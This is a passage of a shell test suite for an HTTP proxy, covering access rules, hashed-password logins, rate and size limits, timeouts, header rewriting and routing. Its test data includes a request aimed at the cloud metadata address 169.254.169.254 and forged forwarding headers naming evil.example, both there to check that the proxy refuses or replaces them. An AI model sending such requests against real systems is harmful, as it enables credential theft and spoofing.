	403 -H "user-agent: bot" $u
	403 -H "X-Exact: yes" $u
	200 -H "X-Exact: yes indeed" $u
	403 -H "X-Exact: no" -H "X-Exact: yes" $u
	END
}

test_rules_about_the_user() {
	judged -u bob:secret -u eve:secret -d user:eve,/private <<-'END'
	200 -u bob:secret $u/private
	403 -u eve:secret $u/private
	200 -u eve:secret $u/
	401 $u/private
	END
}

test_terms_of_one_kind_are_alternatives_and_kinds_must_all_hold() {
	judged -d method:POST,method:PUT,/a,/b <<-'END'
	200 $u/a
	403 -d x $u/a
	403 -X PUT $u/b
	200 -X PUT $u/c
	END
}

test_not_turns_a_term_around() {
	judged -d not:GET,not:method:HEAD <<-'END'
	200 $u
	403 -X DELETE $u
	END
	judged -d /x,not:from:127.0.0.1 -d /y,not:from:10.0.0.0/8 -d 'not:header:X-Key=open' <<-'END'
	403 $u/x
	200 -H "X-Key: open" $u/x
	403 -H "X-Key: open" $u/y
	END
}

test_a_backslash_keeps_a_comma_in_a_value() {
	judged -d 'header:X-List=a\,b' -d '/c\,d' <<-'END'
	403 -H "X-List: a,b" $u
	200 -H "X-List: a" $u
	403 $u/c,d
	200 $u/c
	END
}

test_rules_are_read_from_a_file() {
	printf '# comment\n\n/one\nPOST,/two\r\nexample.com\n' >rules
	judged -d @rules <<-'END'
	403 $u/one
	200 $u/two
	403 -d x $u/two
	403 -H "Host: x.example.com" $u
	200 $u
	END
	judged -d 'GET,@rules' <<-'END'
	403 $u/one
	200 -d x $u/one
	200 $u/three
	END
}

test_a_bad_rule_in_a_file_is_told_with_its_line() {
	printf '/one\n\nport:nonsense\n' >rules
	try -q -l 0 -r /=200 -d @rules
	like "$status" '^[12]$'
	like "$err" 'rules: line 3: '
	like "$err" 'port:nonsense'
}

test_a_hosts_file_is_a_list_of_names() {
	cat >hosts <<-'END'
	# a block list
	127.0.0.1 localhost
	::1 ip6-localhost
	0.0.0.0 ads.example tracker.example	# two of them
	127.0.0.1	tab.example
	0.0.0.0 short
	END
	judged -d @hosts <<-'END'
	403 -H "Host: ads.example" $u
	403 -H "Host: a.b.tracker.example" $u
	403 -H "Host: tab.example" $u
	200 -H "Host: example" $u
	200 -H "Host: localhost" $u
	200 -H "Host: short" $u
	200 $u
	END
}

test_a_list_of_many_names_loads_quickly_and_is_compact() {
	need awk
	names=${slow:+1000000}
	: "${names:=100000}"
	awk -v n="$names" 'BEGIN { for (i = 0; i < n; i++) print "0.0.0.0 host" i ".ads" i % 977 ".example" }' >list
	start -r /=200
	empty=$(memory "$pid")
	stop
	began=$(now)
	start -r /=200 -d @list
	seconds=$(($(now) - began))
	is "$(code -H "Host: a.host$((names - 1)).ads$(((names - 1) % 977)).example" "$url")" 403
	is "$(code -H "Host: host$names.ads0.example" "$url")" 200
	sanitized && return
	[ $seconds -le 4 ] || fail "$names names took $seconds s"
	need_proc
	full=$(memory "$pid")
	each=$(((full - empty) * 1024 / names))
	[ $each -lt 96 ] || fail "$each octets a name"
}

test_hup_reads_rules_again_and_keeps_the_old_ones_if_they_are_bad() {
	echo /old >rules
	start -r /=200 -d @rules
	answers 403 "$url/old"
	echo /new >rules
	kill -HUP "$pid"
	wait_for now_answers 403 "$url/new" || fail "the new rule is not in force"
	answers 200 "$url/old"
	may_say '^proxy: .*rules: line 1: '
	echo port:nonsense >rules
	kill -HUP "$pid"
	wait_for grep -q 'rules: line 1' "err.$n" || fail "the bad rule is not reported"
	answers 403 "$url/new"
	may_say '^proxy: .*rules: No such file'
	rm rules
	kill -HUP "$pid"
	wait_for grep -q 'No such file' "err.$n" || fail "the missing file is not reported"
	answers 403 "$url/new"
}

test_hup_reads_a_long_list_without_a_stall() {
	need awk
	names=${slow:+1000000}
	: "${names:=200000}"
	awk -v n="$names" 'BEGIN { for (i = 0; i < n; i++) print "host" i ".example" }' >list
	start -r /=200 -d @list
	echo added.example >>list
	kill -HUP "$pid"
	for i in 1 2 3 4 5 6 7 8 9 10; do
		is "$(code -m 1 "$url")" 200
	done
	added() { [ "$(code -H 'Host: added.example' "$url")" = 403 ]; }
	wait_for added || fail "the longer list is not in force"
}

test_an_address_alone_is_refused_as_a_rule() {
	refuses 'from:192\.0\.2\.1.*to:192\.0\.2\.1|from:.*to:' -l 0 -d 192.0.2.1
}

test_rules_of_forward_mode_judge_the_target_and_its_addresses() {
	forward -d to:127.0.0.0/8,/secret -d blocked.test -d CONNECT
	is "$(code -x "$url" "http://127.0.0.1:$inner/open")" 200
	is "$(code -x "$url" "http://127.0.0.1:$inner/secret")" 403
	is "$(code -x "$url" "http://www.blocked.test/")" 403
	is "$(connect_code -x "$url" "http://127.0.0.1:$inner/")" 403
}

test_logins_are_asked_for_with_401_in_reverse_and_407_in_forward_mode() {
	start -r /=200:in -u bob:secret
	is "$(code "$url")" 401
	like "$(header WWW-Authenticate)" '^Basic realm='
	is "$(code -u bob:wrong "$url")" 401
	is "$(code -u eve:secret "$url")" 401
	is "$(code -u bob:secret "$url")" 200
	forward -u bob:secret
	is "$(code -x "$url" "http://127.0.0.1:$inner/")" 407
	like "$(header Proxy-Authenticate)" '^Basic realm='
	is "$(code -x "$url" -U bob:wrong "http://127.0.0.1:$inner/")" 407
	is "$(code -x "$url" -U bob:secret "http://127.0.0.1:$inner/")" 200
	is "$(field Proxy-Authorization)" '' 'what was consumed'
	is "$(connect_code -x "$url" "http://127.0.0.1:$inner/")" 407
	is "$(connect_code -x "$url" -U bob:secret "http://127.0.0.1:$inner/")" 200
	is "$(code -x "$url" -U bob:secret -u end:toend "http://127.0.0.1:$inner/")" 200
	like "$(field Authorization)" '^Basic ' 'the login meant for the origin'
}

test_a_login_that_was_consumed_is_not_sent_on() {
	behind -u bob:secret
	is "$(code -u bob:secret "$url")" 200
	is "$(field Authorization)" ''
}

test_malformed_logins_are_refused() {
	start -r /=200 -u bob:secret
	for login in Basic 'Basic !!!' 'Basic Ym9i' 'Bearer Ym9iOnNlY3JldA==' 'Basic Ym9iOnNlY3JldA==x' 'Basic Ym9iOnNlY3JldA=='; do
		code -H "Authorization: $login" "$url" >>codes
		echo >>codes
	done
	is "$(tr '\n' ' ' <codes)" '401 401 401 401 401 200 '
	is "$(code -H 'Authorization: basic Ym9iOnNlY3JldA==' "$url")" 200
}

test_password_files_of_every_usual_hash_are_understood() {
	need openssl
	{
		echo '# logins'
		for scheme in apr1 1 5 6; do
			printf 'u%s:%s\n' $scheme "$(openssl passwd -$scheme "pass-$scheme")"
		done
		printf 'short:%s\n' "$(openssl passwd -6 -salt ab x)"
		printf 'long:%s\n' "$(openssl passwd -6 -salt 0123456789abcdef 'a password that is longer than sixty-four octets, to wrap the digests')"
	} >logins
	for scheme in apr1 1 5 6; do
		start -r /=200 -u @logins           # after a few that are wrong it would wait
		is "$(code -u "u$scheme:pass-$scheme" "$url")" 200 "status with \$$scheme\$"
		is "$(code -u "u$scheme:pass-$scheme " "$url")" 401 "status with \$$scheme\$ and a wrong password"
		is "$(code -u "u$scheme:" "$url")" 401 "status with \$$scheme\$ and no password"
	done
	is "$(code -u short:x "$url")" 200
	is "$(code -u 'long:a password that is longer than sixty-four octets, to wrap the digests' "$url")" 200
}

test_rounds_of_sha_hashes_are_followed() {
	need perl
	perl -e 'my $c = crypt("Hello", q($5$rounds=1000$salt)); print "a:$c\n" if $c; exit !$c' >logins || skip "no crypt here"
	grep -Fq '$5$rounds=' logins || skip "no SHA-crypt here"
	perl -e 'print "b:", crypt("Hello", q($6$rounds=1000$salt)), "\n"' >>logins
	start -r /=200 -u @logins
	is "$(code -u a:Hello "$url")" 200
	is "$(code -u b:Hello "$url")" 200
	is "$(code -u b:hello "$url")" 401
}

test_a_bcrypt_password_works_or_is_refused_with_its_line() {
	need htpasswd
	htpasswd -nbB -C 4 bob secret | head -n 1 >logins
	"$peer" alarm 2 "$PROXY" -q -l 0 -r /=200 -u @logins >tried.out 2>tried.err
	if [ $? = 2 ]; then
		like "$(cat tried.err)" 'logins: line 1: '
		return
	fi
	start -r /=200 -u @logins
	is "$(code -u bob:secret "$url")" 200
	is "$(code -u bob:wrong "$url")" 401
}

test_a_plain_password_in_a_file_is_refused_with_its_line_and_the_mend() {
	printf '# logins\nbob:secret\n' >logins
	try -q -l 0 -r /=200 -u @logins
	like "$status" '^[12]$'
	like "$err" 'logins: line 2: '
	like "$err" 'openssl passwd|htpasswd' 'the mend'
	hasnt "$err" secret 'the message'
	printf 'bob:$9$unknown$hash\n' >logins
	try -q -l 0 -r /=200 -u @logins
	like "$err" 'logins: line 1: '
}

test_hup_reads_logins_again() {
	need openssl
	printf 'bob:%s\n' "$(openssl passwd -5 first)" >logins
	start -r /=200 -u @logins
	is "$(code -u bob:first "$url")" 200
	printf 'bob:%s\n' "$(openssl passwd -5 second)" >logins
	kill -HUP "$pid"
	second() { [ "$(code -u bob:second "$url")" = 200 ]; }
	wait_for second || fail "the new password is not in force"
	is "$(code -u bob:first "$url")" 401
	may_say 'logins: line 1'
	echo bob:plain >logins
	kill -HUP "$pid"
	wait_for grep -q 'logins: line 1' "err.$n" || fail "the bad file is not reported"
	is "$(code -u bob:second "$url")" 200
}

test_a_verified_login_costs_nothing_the_next_time() {
	need openssl perl
	need_proc
	perl -e 'print "bob:", crypt("secret", q($6$rounds=200000$salt)), "\n"' >logins
	start -r /=200 -u @logins
	is "$(code -u bob:secret "$url")" 200
	used=$(ticks "$pid")
	for i in 1 2 3 4 5 6 7 8 9 10; do is "$(code -u bob:secret "$url")" 200; done
	used=$(($(ticks "$pid") - used))
	[ $used -lt 50 ] || fail "ten requests took $used ticks"
}

test_logins_do_not_show_in_the_arguments_of_the_process() {
	need_proc
	start -r /=200 -u bob:geheim
	tr '\0' ' ' <"/proc/$pid/cmdline" >arguments
	hasnt "$(cat arguments)" geheim 'the command line'
}

test_max_body_is_413() {
	start -r /=200:ok --max body=1k
	head -c 1024 /dev/zero >fits
	head -c 1025 /dev/zero >over
	is "$(code --data-binary @fits "$url")" 200
	is "$(code --data-binary @over "$url")" 413
	is "$(code -H 'Transfer-Encoding: chunked' --data-binary @fits "$url")" 200
	is "$(code -H 'Transfer-Encoding: chunked' --data-binary @over "$url")" 413
	is "$(code -H 'Expect: 100-continue' --data-binary @over "$url")" 413
	grep -q '100 Continue' head && fail "100 for a body that is too long"
	behind --max body=1K
	is "$(code --data-binary @fits "$url")" 200
	is "$(code --data-binary @over "$url")" 413
	is "$(code -H 'Transfer-Encoding: chunked' --data-binary @over "$url")" 413
}

test_max_header_is_431() {
	long=$(head -c 3000 /dev/zero | tr '\0' a)
	start -r /=200 --max header=2k
	is "$(code -H "X-Long: $long" "$url")" 431
	is "$(code "$url")" 200
	start -r /=200 --max header=8k,body=1
	is "$(code -H "X-Long: $long" "$url")" 200
	start -r /=200
	longer=$(head -c 60000 /dev/zero | tr '\0' a)
	printf 'X-Long: %s\n' "$longer" >field
	is "$(code -H @field "$url")" 200
	printf 'X-Long: %s\n' "$longer" >>field
	is "$(code -H @field "$url")" 431
}

test_forwarding_fields_from_outside_are_replaced() {
	behind
	is "$(code -H 'X-Forwarded-For: 192.0.2.66' -H 'X-Forwarded-Proto: https' -H 'X-Forwarded-Host: evil.example' \
		-H 'Forwarded: for=192.0.2.66' -H 'Host: front.example' "$url")" 200
	is "$(field X-Forwarded-For)" 127.0.0.1
	is "$(field X-Forwarded-Proto)" http
	is "$(field X-Forwarded-Host)" front.example
	like "$(field Forwarded)" 'for="?127\.0\.0\.1"?(;|$)'
	like "$(field Forwarded)" 'host="?front\.example"?(;|$)'
	has "$(field Forwarded)" 'proto=http'
}

test_a_trusted_peer_tells_who_the_client_is() {
	behind --trust 127.0.0.1/32 -d from:192.0.2.66
	is "$(code -H 'X-Forwarded-For: 192.0.2.7' -H 'X-Forwarded-Proto: https' -H 'X-Forwarded-Host: outer.example' "$url")" 200
	is "$(field X-Forwarded-For)" '192.0.2.7, 127.0.0.1'
	is "$(field X-Forwarded-Proto)" https
	is "$(field X-Forwarded-Host)" outer.example
	is "$(code -H 'X-Forwarded-For: 192.0.2.66' "$url")" 403
	is "$(code -H 'X-Forwarded-For: 192.0.2.66, 127.0.0.1' "$url")" 403 'the right-most address not trusted'
	is "$(code -H 'X-Forwarded-For: 192.0.2.66, 192.0.2.7' "$url")" 200
	is "$(code -H 'Forwarded: for=192.0.2.66' "$url")" 403
	start -r /=200 --trust private -d from:192.0.2.66
	is "$(code -H 'X-Forwarded-For: 192.0.2.66, 10.0.0.1' "$url")" 403
	start -r /=200 --trust 10.0.0.0/8 -d from:192.0.2.66
	is "$(code -H 'X-Forwarded-For: 192.0.2.66' "$url")" 200 'what a peer not trusted says'
}

test_max_connections_refuses_what_is_beyond_it() {
	start_logged --log-format human -r /=200:x --max connections=3
	answers 200 "$url"
	helper hold "$port" 3
	answers 503 "$url"
	kill "$helper"
	wait_for now_answers 200 "$url" || fail 'it does not recover'
	grep -q 'why=connections' log || fail "no reason in $(cat log)"
	start -r /=200:x --max connections=3
	helper hold "$port" 2
	answers 200 "$url"
}

test_max_per_client_counts_the_connections_of_each_address() {
	[ "$(uname)" = Linux ] || skip "127.0.0.2 is an address of this machine on Linux"
	start_logged --log-format human -r /=200:x --max per-client=2
	helper hold "$port" 2
	like "$(code "$url")" '^(429|503)$' 'status of a third connection'
	is "$(code --interface 127.0.0.2 "$url")" 200 'status of another client'
	kill "$helper"
	wait_for now_answers 200 "$url" || fail 'it does not recover'
	grep -q 'why=per-client' log || fail "no reason in $(cat log)"
}

test_report_only_logs_the_verdict_and_refuses_nothing() {
	start_logged --log-format human --report-only -r /=200:passed -d /denied -a GET --max body=1
	is "$(get "$url/denied")" passed
	is "$(get -d 'a long content' "$url/posted")" passed
	is "$(get "$url/fine")" passed
	logged 3
	like "$(sed -n 1p log)" ' 200 GET /denied .*why=denied' 'the line of a request that a rule denies'
	has "$(sed -n 1p log)" 'rule="' 'the line of a request that a rule denies'
	like "$(sed -n 2p log)" ' 200 POST /posted .*why=(denied|body-large)'
	hasnt "$(sed -n 3p log)" why= 'the line of a request that no rule denies'
	start_as -l 0 -o crowd --log-format human --report-only -r /=200:passed --max connections=1
	helper hold "$port" 1
	is "$(get "$url/more")" passed
	wait_for lines_in 1 crowd || fail 'nothing is logged'
	like "$(cat crowd)" ' 200 GET /more .*why=connections'
}

test_report_only_lifts_no_login_no_guard_and_no_syntax() {
	start --report-only -d /denied -r /=200:x -u bob:secret
	answers 401 "$url/denied"
	is "$(code -u bob:secret "$url/denied")" 200
	like "$(talk "$port" 'send:GET  / HTTP/1.1\r\nHost: h\r\n\r\n' rest)" '^HTTP/1\.1 400 '
	start --report-only -d /denied
	is "$(code -x "$url" http://169.254.169.254/denied)" 403
	is "$(code -x "$url" "http://127.0.0.1:$port/denied")" 508
	refuses '--report-only' --report-only -l :0 -a from:private
	start_as -q --report-only -l :0 -a from:private -u bob:secret
	refuses '--report-only' --report-only -r /=200
}

test_a_name_whose_password_was_not_checked_is_not_logged() {
	need_proc
	start_logged --log-format json -u alice:secret -r /=200 -t connect=1s
	is "$(code -u alice:wrong "$url")" 401
	stopped=$(tree "$pid" | sed 1,2d)  # all but the first process and the one that serves: helpers
	kill -STOP $stopped
	is "$(code -m 10 -u mallory:guess "$url")" 503
	kill -CONT $stopped
	logged 2
	hasnt "$(cat log)" mallory 'the log'
}

# ---- access: --rate, and content that comes slowly ----

test_a_client_that_asks_too_often_is_told_when_to_come_back() {
	start_logged -w 2 -r /=200:x --rate 3/m --log-format '%s %{why}x'
	for want in 200 200 200 429 429; do answers $want "$url"; done
	like "$(header Retry-After)" '^(19|20)$'
	logged 5
	is "$(sort log | uniq -c | tr -s ' ' | tr '\n' ',')" ' 3 200 -, 2 429 rate,'
	start -r /=200:x --rate 1/h,burst=2
	for want in 200 200 429; do answers $want "$url"; done
	like "$(header Retry-After)" '^3(600|59[0-9])$'
	start -r /=200:x --rate 2,burst=1
	answers 200 "$url"
	answers 429 "$url"
	is "$(header Retry-After)" 1
	wait_for now_answers 200 "$url" || fail 'what is refused counts'
}

test_the_rate_is_of_a_client_over_all_workers_and_of_an_ipv6_network() {
	start -w 2 -r /=200:x --rate 6/h --trust private
	is "$(load 10 40)" '200:6 429:34 broken:0'
	from() { code -H "X-Forwarded-For: $1" "$url"; }
	for i in 1 2 3 4 5 6; do is "$(from "2001:db8::$i:1")" 200; done
	is "$(from 2001:db8::ffff:ffff)" 429 'one of the same network'
	is "$(from 2001:db8:0:1::1)" 200 'one of another network'
	is "$(from 192.0.2.1)" 200 'another'
}

test_the_rate_is_judged_after_the_rules_and_refused_requests_do_not_count() {
	start -r /=200:x --rate 2/h -d /denied
	for i in 1 2 3 4; do answers 403 "$url/denied"; done
	for want in 200 200 429 429; do answers $want "$url"; done
	answers 403 "$url/denied"
	start -r /=200:x --rate 2/h -u bob:secret --max body=10
	for i in 1 2 3; do is "$(code -u bob:wrong "$url")" 401; done
	is "$(code -u bob:secret -d 'more than ten octets' "$url")" 413
	is "$(code -u bob:secret "$url")" 200
	is "$(code -u bob:secret -d 'more than ten octets' "$url")" 429
	start_logged --report-only -r /=200:x --rate 1/h --log-format '%s %{why}x'
	for i in 1 2; do answers 200 "$url"; done
	logged 2
	is "$(tr '\n' ',' <log)" '200 -,200 rate,'
}

test_the_rate_holds_for_tunnels_and_socks_too() {
	start -r /=200:x
	inner=$port
	start --rate 2/h
	is "$(connect_code -x "$url" "http://127.0.0.1:$inner/")" 200
	is "$(code --socks5 "127.0.0.1:$port" "http://127.0.0.1:$inner/")" 200
	is "$(connect_code -x "$url" "http://127.0.0.1:$inner/")" 429
	code --socks5 "127.0.0.1:$port" "http://127.0.0.1:$inner/" >refused && fail "SOCKS passes: $(cat refused)"
	is "$(code -x "$url" "http://127.0.0.1:$inner/")" 429
}

test_a_unix_socket_has_no_rate_but_whom_it_names_has() {
	start_as -q -l unix:s --trust unix --rate 1/h -r /=200:x
	for i in 1 2 3; do is "$(code --unix-socket s http://h/)" 200; done
	for want in 200 429; do is "$(code --unix-socket s -H 'X-Forwarded-For: 192.0.2.1' http://h/)" $want; done
	is "$(code --unix-socket s -H 'X-Forwarded-For: 192.0.2.2' http://h/)" 200
	start_as -q -l unix:t --rate 1/h -r /=200:x
	for i in 1 2 3; do is "$(code --unix-socket t -H 'X-Forwarded-For: 192.0.2.1' http://h/)" 200 'status for one who is not believed'; done
}

test_of_too_many_clients_those_who_asked_least_are_forgotten() {
	[ -n "$slow" ] || skip 'only with slow: it takes 200,000 clients'
	start -w 2 -r /=200:x --rate 2/h --trust private
	from() { code -H "X-Forwarded-For: $1" "$url"; }
	memory=$(memory "$pid")
	is "$(from 2001:db8::1)" 200
	for want in 200 200 429; do is "$(from 2001:db8:1::1)" $want; done
	is "$("$peer" load "$port" 8 200000 'GET / HTTP/1.1\r\nHost: h\r\nX-Forwarded-For: 2001:####:####::\r\n\r\n')" '200:200000 broken:0'
	for want in 200 200 429; do is "$(from 2001:db8::1)" $want 'status for the one who had asked once'; done
	for want in 200 429; do is "$(from 2001:0020:0000::1)" $want 'for the last'; done
	is "$(from 2001:db8:1::1)" 429 'for the one who had asked too often'
	sanitized || [ "$(memory "$pid")" -le $((memory + 8000)) ] || fail "memory: $memory KiB, then $(memory "$pid")"
}

test_content_that_comes_too_slowly_ends() {
	start_logged -r /=echo -t idle=400ms --log-format '%s %{why}x'
	got=$(talk "$port" 'send:POST / HTTP/1.1\r\nHost: h\r\nContent-Length: 1000\r\n\r\n' drip:100:aaaaaaaaaaaaaaaaaaaa rest 2>/dev/null)
	like "$got" '^HTTP/1\.1 408 '
	logged 1
	is "$(cat log)" '408 body-late'
	got=$(talk "$port" 'send:POST / HTTP/1.1\r\nHost: h\r\nConnection: close\r\nContent-Length: 10\r\n\r\n' drip:50:abcde send:fghij rest)
	has "$got" abcdefghij 'one that is not so slow'
}

test_only_the_time_a_client_is_waited_for_counts_as_slow() {
	hundreds=$(head -c 350 /dev/zero | tr '\0' a)
	start -r /=200:x -t idle=300ms
	got=$(talk "$port" 'send:POST / HTTP/1.1\r\nHost: h\r\nConnection: close\r\nContent-Length: 350\r\n\r\n' "drip:2:$hundreds" rest)
	like "$got" '^HTTP/1\.1 200 ' 'what is not slower than 100 octets a second'
	origin head 'read:ly'
	start -r ":$origin" -t idle=300ms
	got=$(talk "$port" 'send:POST / HTTP/1.1\r\nHost: h\r\nTransfer-Encoding: chunked\r\n\r\n' 'drip:60:1\r\ns\r\n1\r\nl\r\n1\r\no\r\n1\r\nw\r\n' rest 2>/dev/null)
	like "$got" '^HTTP/1\.1 408 ' 'chunks that are passed on'
}

# ---- messages: -H -R -p -t ----

test_H_sets_adds_and_removes_fields_of_requests() {
	behind -H 'X-One: 1' -H 'X-Two: a' -H 'X-Two: b' -H 'X-Gone:' -H 'X-Empty;' -H 'user-agent: ours'
	is "$(code -H 'X-One: from the client' -H 'X-Two: c' -H 'X-Gone: x' -H 'X-Empty: full' -A theirs "$url")" 200
	is "$(field X-One)" 1
	is "$(field X-Two)" 'a
b'
	is "$(field X-Gone)" ''
	hasnt "$(cat body)" X-Gone
	is "$(field X-Empty)" ''
	has "$(cat body)" X-Empty
	is "$(field User-Agent)" ours
}

test_R_sets_adds_and_removes_fields_of_responses() {
	start -r /=200:x -R 'X-One: 1' -R 'X-Two: a' -R 'X-Two: b' -R 'Content-Type: text/html' -R 'Date:' -R 'X-Empty;' -d /denied
	is "$(code "$url")" 200
	is "$(header X-One)" 1
	is "$(header X-Two)" 'a
b'
	is "$(header Content-Type)" text/html
	is "$(header Date)" ''
	grep -qi '^X-Empty: *.$' head || fail "no empty field: $(cat head)"
	is "$(code "$url/denied")" 403
	is "$(header X-One)" 1 'the field of an error answer'
	origin head 'send:HTTP/1.1 200 OK\r\nX-One: theirs\r\nX-Gone: x\r\nContent-Length: 0\r\n\r\n' again
	start -r "http://127.0.0.1:$origin" -R 'X-One: ours' -R X-Gone:
	is "$(code "$url")" 200
	is "$(header X-One)" ours
	is "$(header X-Gone)" ''
}

test_R_does_not_touch_the_answer_to_connect() {
	forward -R 'X-One: 1'
	is "$(connect_code -x "$url" "http://127.0.0.1:$inner/")" 200
	sed '/^.$/q' head | grep -qi '^X-One' && fail "a field in the answer to CONNECT"
	is "$(code -x "$url" "http://127.0.0.1:$inner/")" 200
	is "$(header X-One)" 1
}

test_p_passes_on_nothing_of_the_client_or_the_proxy() {
	behind -p
	is "$(code -H 'From: me@example' -H 'X-Real-IP: 192.0.2.1' -H 'X-Forwarded-For: 192.0.2.1' -H 'Forwarded: for=192.0.2.1' -H 'Via: 1.1 other' "$url")" 200
	for name in Via Forwarded X-Forwarded-For X-Forwarded-Proto X-Forwarded-Host From X-Real-IP; do
		hasnt "$(cat body)" "\"$name\"" 'the request'
	done
	is "$(header Via)$(header Server)" ''
	origin head 'send:HTTP/1.1 200 OK\r\nServer: inside\r\nVia: 1.1 inside\r\nContent-Length: 0\r\n\r\n' again
	start -p -r "http://127.0.0.1:$origin"
	is "$(code "$url")" 200
	is "$(header Via)$(header Server)" ''
	forward -p
	is "$(code -x "$url" "http://127.0.0.1:$inner/")" 200
	is "$(field Via)" ''
}

test_timeout_connect() {
	[ "$(uname)" = Linux ] || skip "a full queue drops connections on Linux"
	helper full
	start -r "http://127.0.0.1:$said" -t connect=500ms
	is "$(code -m 4 "$url")" 504
}

test_timeout_head_ends_a_slow_request_head() {
	start -r /=200 -t head=500ms
	got=$(talk "$port" 'drip:100:GET / HTTP/1.1\r\nHost: a.very.slow.example\r\n' rest 2>/dev/null)
	like "$got" '^(HTTP/1\.1 408 |$)'
	got=$(talk "$port" 'send:GET / HTTP/1.1\r\n' rest)
	like "$got" '^HTTP/1\.1 408 '
}

test_timeout_response() {
	origin head hang
	for t in response=500ms 1; do
		start -r "http://127.0.0.1:$origin" -t $t
		is "$(code -m 4 "$url")" 504
	done
}

test_timeout_idle_ends_a_body_that_stands_still() {
	origin head 'send:HTTP/1.1 200 OK\r\nContent-Length: 10\r\n\r\nhalf' hang
	start -r /up=200 -r "http://127.0.0.1:$origin" -t idle=500ms
	code -m 4 "$url" >codes
	is $? 18 'exit status of curl'
	got=$(talk "$port" 'send:POST /up HTTP/1.1\r\nHost: h\r\nContent-Length: 10\r\n\r\nhalf' rest)
	like "$got" '^(HTTP/1\.1 408 |$)'
}

test_timeout_keepalive_closes_an_idle_client() {
	start -r /=200:x -t keepalive=500ms
	talk "$port" 'send:GET / HTTP/1.1\r\nHost: h\r\n\r\n' 'read:\r\n\r\nx' rest >got || fail 'it was not closed'
	talk "$port" rest >got
	is "$(cat got)" '' 'what an idle connection hears'
}

test_timeout_pool_closes_idle_connections_to_an_upstream() {
	origin head 'send:HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n' rest touch:closed
	start -r "http://127.0.0.1:$origin" -t pool=500ms
	answers 200 "$url"
	wait_for test -f closed || fail 'the connection stays open'
}

test_timeout_tunnel() {
	origin rest
	start -t tunnel=500ms
	talk "$port" "send:CONNECT 127.0.0.1:$origin HTTP/1.1\r\nHost: 127.0.0.1:$origin\r\n\r\n" rest >got
	like "$(head -n 1 got)" '^HTTP/1\.1 200 '
}

test_timeout_drain_bounds_the_end() {
	origin head touch:begun hang
	start -r "http://127.0.0.1:$origin" -t drain=1
	code "$url" >codes &
	wait_for test -f begun || fail 'the request did not arrive'
	began=$(now)
	stop
	[ $(($(now) - began)) -le 4 ] || fail "the end took $(($(now) - began)) s"
}

test_timeouts_take_units_and_0_is_never() {
	start -r /=200:x -t connect=1500ms,head=1m,response=1h,idle=0,keepalive=0,pool=1s,tunnel=0,drain=10
	is "$(get "$url")" x
	start -r /=200:x -t 30,idle=5
	is "$(get "$url")" x
}

test_cors_answers_preflights_and_permits_every_origin() {
	behind --cors
	preflight() { code -X OPTIONS -H 'Origin: http://page.example' -H 'Access-Control-Request-Method: PUT' \
		-H 'Access-Control-Request-Headers: x-one, x-two' "$@"; }
	permitted() { like "$(header Access-Control-Allow-Origin)" '^(\*|http://page\.example)$' "Access-Control-Allow-Origin of $1"; }
	like "$(preflight "$url")" '^20[04]$' 'status of a preflight'
	hasnt "$(cat body)" OPTIONS 'the answer to a preflight, which no server gets,'
	permitted 'a preflight'
	like "$(header Access-Control-Allow-Methods)" 'PUT|\*'
	like "$(header Access-Control-Allow-Headers)" 'x-one.*x-two|\*'
	is "$(code -H 'Origin: http://page.example' "$url")" 200
	permitted 'an answer'
	is "$(code -X OPTIONS -H 'Origin: http://page.example' "$url")" 200
	is "$(member method)" OPTIONS 'the method of what is no preflight'
	origin head 'send:HTTP/1.1 200 OK\r\nAccess-Control-Allow-Origin: http://other.example\r\nContent-Length: 0\r\n\r\n' again
	start --cors -r "/up=:$origin" -r /dead=localhost:1 -u bob:secret
	is "$(code -u bob:secret -H 'Origin: http://page.example' "$url/up")" 200
	permitted 'a server that permits another'
	is "$(code -u bob:secret -H 'Origin: http://page.example' "$url/dead")" 502
	permitted 'an error'
	like "$(preflight "$url/up")" '^20[04]$' 'status of a preflight, which never has a login,'
	is "$(code -H 'Origin: http://page.example' "$url/up")" 401
	permitted 'a refusal'
}

# ---- reverse: routes and targets ----

test_the_more_specific_host_then_the_longest_path_wins() {
	start -r 200:root -r /api=200:api -r /api/v2/=200:v2 -r a.example=200:exact -r a.example/api=200:exact-api \
		-r '*.example=200:wild' -r '*.b.example=200:wild-b' -r .dot.test=200:dot
	while read -r host path want; do
		is "$(get -H "Host: $host" "$url$path")" "$want" "the route of $host$path"
	done <<-'END'
	x / root
	x /api api
	x /api/ api
	x /apix root
	x /api?q api
	x /api/v2 v2
	x /api/v2/x v2
	x /api/v2x api
	x /API root
	x /%61pi api
	a.example / exact
	A.Example:8080 / exact
	a.example /api/x exact-api
	a.example /api/v2 exact-api
	z.example / wild
	y.z.example /api wild
	example / root
	c.b.example / wild-b
	b.example / wild
	x.dot.test / dot
	dot.test / root
	END
}

test_no_route_is_404_and_a_host_nobody_named_is_421() {
	start -r /only=200
	answers 404 "$url/other"
	answers 200 "$url/only"
	start -r a.example=200 -r b.example/only=200
	is "$(code -H 'Host: c.example' "$url")" 421
	is "$(code -H 'Host: b.example' "$url/other")" 404
}

test_what_stands_before_an_equals_sign_is_the_match() {
	start -r '200:a=b'
	is "$(get "$url")" 'a=b'
	start -r 'x.example=200:c=d'
	is "$(get -H 'Host: x.example' "$url")" 'c=d'
	start -r /=echo
	inner=$port
	start -r "127.0.0.1:$inner/p=q"
	is "$(code "$url/x")" 200
	like "$(member target)" '^/p=q/x$'
}

test_targets_may_be_a_port_a_host_and_port_or_a_url() {
	start -r /=echo
	inner=$port
	for target in "$inner" ":$inner" "127.0.0.1:$inner" "localhost:$inner" "http://127.0.0.1:$inner" "/=$inner" "/=http://localhost:$inner"; do
		start -r "$target"
		is "$(code "$url/a/b?c=%2F")" 200 "status with -r $target"
		is "$(member target)" '/a/b?c=%2F' "target with -r $target"
		stop
	done
}

test_the_path_of_a_target_replaces_the_prefix_matched() {
	start -r /=echo
	inner=127.0.0.1:$port
	start -r "/api=http://$inner/" -r "/old/=http://$inner/new" -r "/same=http://$inner" -r "/slash=http://$inner/to/" -r "http://$inner/root"
	while read -r asked want; do
		is "$(code "$url$asked")" 200
		is "$(member target)" "$want" "what $asked becomes"
	done <<-'END'
	/api /
	/api/ /
	/api/x?q /x?q
	/api/x%2Fy /x%2Fy
	/api?q /?q
	/%61pi/x /x
	/old/x /new/x
	/old /new
	/same/x /same/x
	/slash/x /to/x
	/other /root/other
	END
}

test_reverse_mode_refuses_paths_that_could_be_read_in_two_ways() {
	start -r /=200
